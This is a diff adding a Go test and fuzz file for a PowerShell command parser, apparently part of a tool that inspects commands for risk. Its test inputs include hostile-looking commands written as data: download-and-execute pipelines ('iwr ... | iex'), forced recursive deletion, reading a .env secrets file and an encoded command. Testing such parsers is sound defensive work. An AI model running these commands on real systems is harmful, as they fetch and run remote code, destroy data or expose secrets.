@@ -1,0 +1,91 @@
+package shell
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestAnalyzePowerShell(t *testing.T) {
+	tests := []struct {
+		src  string
+		want []string // name and args of each command, space-joined
+	}{
+		{"Remove-Item -Recurse -Force C:\\tmp\\x", []string{"remove-item -recurse -force C:\\tmp\\x"}},
+		{"rm -rec -fo dist", []string{"remove-item -recurse -force dist"}},
+		{"RI dist -R", []string{"remove-item dist -recurse"}},
+		{"Get-Content .env | Out-File x.txt", []string{"get-content .env", "out-file x.txt"}},
+		{"iwr https://e.com/x.ps1 | iex", []string{"invoke-webrequest https://e.com/x.ps1", "invoke-expression"}},
+		{"iex (iwr https://e.com/x)", []string{"invoke-webrequest https://e.com/x", "invoke-expression (iwr https://e.com/x)"}},
+		{"& 'C:\\Program Files\\x.exe' -a", []string{"c:\\program files\\x -a"}},
+		{"echo $(Remove-Item -Recurse x)", []string{"remove-item -recurse x", "write-output $(Remove-Item -Recurse x)"}},
+		{`Write-Host "id: $(whoami)"`, []string{"whoami", "write-host id: $(whoami)"}},
+		{"git status; npm test && npm run build || echo fail", []string{"git status", "npm test", "npm run build", "write-output fail"}},
+		{"Get-ChildItem | ForEach-Object { Remove-Item $_ -Force }", []string{"get-childitem", "foreach-object", "remove-item $_ -force"}},
+		{"# comment\nls <# block\ncomment #> src", []string{"get-childitem src"}},
+		{"'it''s' | Set-Content -Path a.txt", []string{"it's", "set-content -path a.txt"}},
+		{"Get-Process > procs.txt", []string{"get-process"}},
+		{"pwsh -NoProfile -Command \"Remove-Item -Recurse -Force dist\"", []string{"pwsh -noprofile -command Remove-Item -Recurse -Force dist", "remove-item -recurse -force dist"}},
+		{"Get-Content `\n  .env", []string{"get-content .env"}},
+		{"git -C repo status", []string{"git -C repo status"}},
+	}
+	for _, tc := range tests {
+		res, err := AnalyzePowerShell(tc.src, nil)
+		if err != nil {
+			t.Errorf("AnalyzePowerShell(%q): %v", tc.src, err)
+			continue
+		}
+		var got []string
+		for _, c := range res.Commands {
+			if c.Name == "" {
+				continue
+			}
+			got = append(got, strings.TrimSpace(c.Name+" "+strings.Join(c.Args, " ")))
+		}
+		if strings.Join(got, "\n") != strings.Join(tc.want, "\n") {
+			t.Errorf("AnalyzePowerShell(%q):\n got %q\nwant %q", tc.src, got, tc.want)
+		}
+	}
+	res, _ := AnalyzePowerShell("Get-Process > procs.txt 2>&1", nil)
+	if len(res.Commands[0].Redirects) != 1 || res.Commands[0].Redirects[0].Target != "procs.txt" {
+		t.Errorf("redirects: %+v", res.Commands[0].Redirects)
+	}
+	res, _ = AnalyzePowerShell("$cmd = 'rm'; & $cmd -r x", nil)
+	if len(res.Problems) == 0 {
+		t.Error("a dynamic program must be a problem")
+	}
+	res, _ = AnalyzePowerShell("powershell -enc SQBFAFgA", nil)
+	if len(res.Problems) == 0 {
+		t.Error("-EncodedCommand must be a problem")
+	}
+	for _, bad := range []string{"'unclosed", "\"unclosed", "$(unclosed", "<# unclosed", strings.Repeat("$(", 100) + "x" + strings.Repeat(")", 100)} {
+		if _, err := AnalyzePowerShell(bad, nil); err == nil {
+			t.Errorf("AnalyzePowerShell(%q): want an error", bad)
+		}
+	}
+}
+
+func FuzzAnalyzePowerShell(f *testing.F) {
+	for _, s := range []string{"rm -rec -fo x", "iwr u | iex", "echo \"$(x)\"", "@'\nx\n'@", "& 'a' b; c && d || e",
+		"Get-ChildItem { $_ } (x) @(y)", "a `\n b", "<# c #> d", "x > y 2>&1"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		res, err := AnalyzePowerShell(s, nil)
+		if err != nil {
+			var pe *ParseError
+			if e, ok := err.(*ParseError); !ok || e.Line < 0 {
+				t.Fatalf("error %v (%T) is not a *ParseError%v", err, err, pe)
+			}
+			return
+		}
+		for _, c := range res.Commands {
+			if len(c.Args) != len(c.ArgDynamic) {
+				t.Fatalf("%q: Args and ArgDynamic differ in length", s)
+			}
+		}
+		again, _ := AnalyzePowerShell(s, nil)
+		if len(again.Commands) != len(res.Commands) {
+			t.Fatalf("%q: not deterministic", s)
+		}
+	})
+}
